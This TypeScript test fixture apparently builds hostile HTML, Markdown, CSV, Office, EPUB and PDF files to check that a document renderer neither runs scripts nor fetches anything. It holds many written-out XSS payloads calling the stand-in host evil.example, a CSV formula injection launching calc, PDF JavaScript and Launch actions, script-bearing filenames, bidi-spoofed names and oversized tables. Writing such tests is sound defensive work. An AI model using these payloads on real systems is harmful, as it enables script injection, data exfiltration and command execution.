import { rawPdf } from '../../helpers/pdf-files.ts';
import {
  makeDocx,
  makeEpub,
  makePptx,
  slideShape,
  wordParagraph,
} from '../../helpers/zip-files.ts';

/** Each document holds it. */
export const QUOTE = 'Refunds take two weeks.';

/** Where nothing may be fetched from. */
const AWAY = 'https://evil.example/';

const PWN = `window.pwned=1;alert(1);fetch('${AWAY}')`;

/** What would act in a page that took it for markup. */
const MARKUP: Readonly<Record<string, string>> = {
  script: `<script>${PWN}</script><script src="${AWAY}a.js"></script>`,
  handlers: `<img src=x onerror="${PWN}"><body onload="${PWN}"><details open ontoggle="${PWN}">`,
  svg: `<svg onload="${PWN}"><script>${PWN}</script><image href="${AWAY}i.png"/><foreignObject><iframe src="${AWAY}"></iframe></foreignObject></svg>`,
  css: `<style>@import "${AWAY}a.css"; body{background:url(${AWAY}b.png);width:expression(${PWN})}</style><p style="background:url(${AWAY}c.png)">x</p><link rel=stylesheet href="${AWAY}d.css">`,
  links: `<a id=quote href="javascript:${PWN}">press</a> <a href="data:text/html,<script>${PWN}</script>">press</a><base href="${AWAY}">`,
  frames: `<iframe src="${AWAY}"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="${AWAY}o"></object><embed src="${AWAY}e">`,
  refresh: `<meta http-equiv=refresh content="0;url=${AWAY}"><meta http-equiv="Content-Security-Policy" content="script-src *">`,
  images: `<img src="${AWAY}i.png" srcset="${AWAY}j.png 2x"><video poster="${AWAY}p.png" src="${AWAY}v.mp4" autoplay></video><picture><source srcset="${AWAY}k.png"></picture>`,
  forms: `<form action="${AWAY}" method=post><input autofocus onfocus="${PWN}"><button>Send</button></form><form id=f action=/forget method=post></form>`,
  ends: `</mark></p></article></main></body><script>${PWN}</script><!--`,
  comment: `--!><script>${PWN}</script><![CDATA[<script>${PWN}</script>]]><plaintext>`,
  template: `<template><script>${PWN}</script></template><noscript><p title="</noscript><script>${PWN}</script>">`,
};

const escapeXml = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');

/** Hidden directions, lines and nulls. */
const BIDI = '\u202egnp.exe\u202c \u2066left\u2069 \u200f\u200e\u2028line\u2029 \u061c';

const html = (body: string) =>
  `<!doctype html><title>x</title><p>${QUOTE}</p>${body}<p>The end.</p>`;
const text = (body: string) => `First.\n\n${body} ${QUOTE} ${body}\n\nThe end.\n`;
const chapter = (body: string) =>
  `<html xmlns="http://www.w3.org/1999/xhtml"><body><p>${QUOTE}</p>${body}</body></html>`;

export type Hostile = readonly [name: string, content: string | Uint8Array];

/** A PDF of one page with the quote, whose catalog and page have more entries; more objects count from 6. */
function pdf(catalog: string, page = '', objects: readonly string[] = []): Uint8Array {
  const content = `BT /F1 12 Tf 50 700 Td (${QUOTE}) Tj ET`;
  return rawPdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 800] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...objects,
  ]);
}

const JS = `<< /S /JavaScript /JS (app.alert(1); this.submitForm('${AWAY}'); window.pwned=1) >>`;
const link = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 400 800] /A ${action} >>]`;
const XFA = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>${PWN}</script></xdp:xdp>`;

const PDFS: readonly Hostile[] = [
  ['open-action.pdf', pdf(`/OpenAction ${JS}`)],
  ['names.pdf', pdf(`/Names << /JavaScript << /Names [(a) ${JS}] >> >>`)],
  ['page-action.pdf', pdf('', `/AA << /O ${JS} >>`)],
  [
    'uri.pdf',
    pdf(`/OpenAction << /S /URI /URI (${AWAY}) >>`, link(`<< /S /URI /URI (javascript:${PWN}) >>`)),
  ],
  [
    'launch.pdf',
    pdf('/OpenAction << /S /Launch /F (calc.exe) >>', link('<< /S /Launch /F (/bin/sh) >>')),
  ],
  [
    'remote.pdf',
    pdf(`/OpenAction << /S /GoToR /F << /FS /URL /F (${AWAY}a.pdf) >> /D [0 /Fit] >>`),
  ],
  [
    'embedded.pdf',
    pdf(
      '/Names << /EmbeddedFiles << /Names [(a.html) << /Type /Filespec /F (a.html) /EF << /F 6 0 R >> >>] >> >>',
      '',
      ['<< /Type /EmbeddedFile /Length 8 >>\nstream\n<script>\nendstream'],
    ),
  ],
  [
    'xfa.pdf',
    pdf('/AcroForm << /XFA 6 0 R /Fields [] >>', '', [
      `<< /Length ${XFA.length} >>\nstream\n${XFA}\nendstream`,
    ]),
  ],
  [
    'font.pdf',
    pdf(
      '',
      `/Annots [<< /Type /Annot /Subtype /Widget /FT /Tx /T (x) /V (<script>${PWN}</script>) /Rect [0 0 90 20] /AA << /F ${JS} >> >>]`,
    ),
  ],
];

/** Documents that would run or fetch something in a page that let them. */
export const HOSTILE: readonly Hostile[] = [
  ...Object.entries(MARKUP).map(([name, body]): Hostile => [`${name}.html`, html(body)]),
  ...Object.entries(MARKUP).map(([name, body]): Hostile => [`${name}.md`, text(body)]),
  ...['script', 'ends', 'svg'].map((name): Hostile => [`${name}.txt`, text(MARKUP[name] ?? '')]),
  [
    'script.csv',
    `What,"${MARKUP.script?.replaceAll('"', '""')}"\n"${QUOTE} ${MARKUP.ends?.replaceAll('"', '""')}",=cmd|' /C calc'!A0\nx,y\n`,
  ],
  [
    'script.docx',
    makeDocx(wordParagraph(`${QUOTE} ${escapeXml(MARKUP.script ?? '')}`), {
      'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="r" TargetMode="External" Target="${AWAY}t.dotm"/></Relationships>`,
    }),
  ],
  ['ends.docx', makeDocx(wordParagraph(`${QUOTE} ${escapeXml(MARKUP.ends ?? '')}`, 'berschrift1'))],
  [
    'script.pptx',
    makePptx([slideShape([escapeXml(MARKUP.svg ?? '')], 'title') + slideShape([QUOTE])]),
  ],
  [
    'script.epub',
    makeEpub({
      'a.xhtml': chapter(
        `<script>${PWN}</script><img src="${AWAY}i.png" alt="x"/><p onclick="pwned=1">x</p>`,
      ),
    }),
  ],
  [
    'style.epub',
    makeEpub({
      'a.xhtml': chapter(`<style>@import "${AWAY}";</style><a href="javascript:pwned=1">x</a>`),
    }),
  ],
  ['links.md', text(`[press](javascript:pwned=1) ![x](${AWAY}i.png) <${AWAY}> [x]: ${AWAY}`)],
  ['bidi.txt', text(BIDI)],
  ['bidi.md', text(`# ${BIDI}\n\n- ${BIDI}`)],
  ['\u202efdp.exe\u202c.md', text('x')],
  ['<img src=x onerror=pwned=1>.md', text('x')],
  ['"><script>pwned=1<\u2215script>.txt', text('x')],
  ["'javascript:pwned=1'.csv", `What,Who\n${QUOTE},y\n`],
  [
    'rows.csv',
    `What,Number\n${Array.from({ length: 100_000 }, (_, i) => (i === 70_000 ? `${QUOTE},1` : `row ${i},${i}`)).join('\n')}\n`,
  ],
  [
    'columns.csv',
    `${Array.from({ length: 500 }, (_, i) => `C${i}`).join(',')}\n${`${Array.from({ length: 500 }, (_, i) => (i === 250 ? QUOTE : `v${i}`)).join(',')}\n`.repeat(3)}`,
  ],
  ['rows.html', html(`<table>${'<tr><td>1<td>2<td>3'.repeat(5_000)}</table>`)],
  [
    'spans.html',
    html(`<table><tr>${'<td colspan=1000 rowspan=65534>x'.repeat(20)}<tr><td>y</table>`),
  ],
  ['deep.html', html(`${'<div><ul><li>'.repeat(300)}x`)],
  [
    'deep.md',
    text(
      `${'> '.repeat(200)}x\n\n${Array.from({ length: 100 }, (_, i) => `${'  '.repeat(i)}- x`).join('\n')}\n\n`,
    ),
  ],
  ...PDFS,
];
